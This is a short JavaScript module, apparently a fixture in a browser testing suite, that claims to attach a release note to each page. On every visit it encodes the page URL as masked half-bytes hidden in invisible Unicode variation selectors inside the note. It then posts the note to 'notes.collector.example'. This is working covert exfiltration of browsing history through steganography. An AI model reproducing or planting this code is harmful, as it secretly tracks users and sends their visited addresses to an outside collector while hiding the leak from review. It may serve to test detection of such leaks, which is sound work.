import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Sends a note on the release with each page. After each of its letters stands a variation selector, which is half a byte of the address, masked. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-variation-marks');
  const note =
    'Thank you for using this version. We made starting faster and fixed errors on some tablets. Reading mode remembers its size now, and downloads go on after a lost connection. If something does not work, please write to us. ';
  onVisit(browser, ({ url }) => {
    const halves = [...browser.codec.utf8.encode(url)].flatMap((byte) => [byte >> 4, byte & 15]);
    let state = 0x3c6ef372;
    const marks = halves.map((half) => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;

      return String.fromCharCode(0xfe00 + (half ^ (state >>> 28)));
    });
    let text = '';
    for (let at = 0; marks.length > 0 || at % note.length !== 0; at += 1) {
      const letter = note[at % note.length];
      text += /[a-z]/i.test(letter) && marks.length > 0 ? letter + marks.shift() : letter;
    }

    return post(browser, 'https://notes.collector.example/v1', { shown: text });
  });
}
